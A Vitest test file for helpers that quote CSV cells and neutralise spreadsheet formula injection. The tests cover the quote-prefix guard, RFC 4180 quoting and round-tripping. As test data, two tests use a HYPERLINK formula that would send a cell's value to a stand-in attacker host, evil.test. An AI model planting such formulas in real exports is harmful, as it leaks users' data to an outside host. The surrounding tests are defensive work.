import { describe, expect, it } from "vitest";
import { csvCell, csvRow, fromCsvCell } from "@/lib/admin/csv";

describe("CSV cells for spreadsheets (OWASP CSV injection)", () => {
  it("prefixes a single quote to every cell a spreadsheet would read as a formula", () => {
    for (const start of ["=", "+", "-", "@", "\t", "\r"]) {
      expect(csvCell(`${start}1+1`)).toBe(`"'${start}1+1"`);
    }
    expect(csvCell('=HYPERLINK("http://evil.test?x="&A1,"Click")')).toBe(
      `"'=HYPERLINK(""http://evil.test?x=""&A1,""Click"")"`,
    );
    expect(csvCell("@SUM(A1:A9)")).toBe(`"'@SUM(A1:A9)"`);
  });

  it("leaves ordinary text alone, even with a formula character later on", () => {
    expect(csvCell("Lin Chen")).toBe('"Lin Chen"');
    expect(csvCell("a=b+c")).toBe('"a=b+c"');
    expect(csvCell("lin+tag@example.com")).toBe('"lin+tag@example.com"');
    expect(csvCell(" =1")).toBe('" =1"');
  });

  it("quotes every cell and doubles quotes inside, so commas and line breaks stay in their cell", () => {
    expect(csvCell('Ann, "the" buyer')).toBe('"Ann, ""the"" buyer"');
    expect(csvCell("two\nlines")).toBe('"two\nlines"');
    expect(csvCell(12345)).toBe('"12345"');
    expect(csvCell(null)).toBe('""');
    expect(csvCell(undefined)).toBe('""');
  });

  it("ends each record with CRLF (RFC 4180)", () => {
    expect(csvRow(["a", "=b", 3, null])).toBe(`"a","'=b","3",""\r\n`);
  });

  it("fromCsvCell undoes exactly the guard, so a cell read back and written again is the same cell", () => {
    for (const text of [
      '=HYPERLINK("http://evil.test")',
      "+1",
      "-2",
      "@SUM(A1)",
      "\tx",
      "\rx",
      "'Tis",
      "''=x",
      "'=x",
      "'",
      "'Tis",
      "plain",
      "",
      "'",
    ]) {
      const cell = csvCell(text).slice(1, -1).replace(/""/g, '"');
      expect(fromCsvCell(cell)).toBe(text);
      expect(csvCell(fromCsvCell(cell))).toBe(csvCell(text));
    }
    expect(fromCsvCell("'=1")).toBe("=1");
    expect(fromCsvCell("'Tis")).toBe("'Tis");
    expect(fromCsvCell("=1")).toBe("=1");
  });
});
